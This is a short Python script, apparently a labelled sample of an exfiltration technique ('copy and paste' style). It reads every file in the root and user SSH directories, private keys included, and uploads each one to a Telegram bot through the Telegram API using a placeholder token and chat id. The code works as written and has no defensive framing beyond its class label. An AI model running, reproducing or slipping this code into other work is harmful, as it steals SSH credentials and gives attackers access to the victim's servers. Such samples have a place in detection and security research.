# class: exfiltration by a chat's API; style: copy and paste
import requests, os
T = "1234567:AAExampleExampleExample"; C = "-100123"
for root in ("/root/.ssh", os.path.expanduser("~/.ssh")):
    if os.path.isdir(root):
        for n in os.listdir(root):
            requests.post(f"https://api.telegram.org/bot{T}/sendDocument", data={"chat_id": C}, files={"document": open(os.path.join(root, n), "rb")})
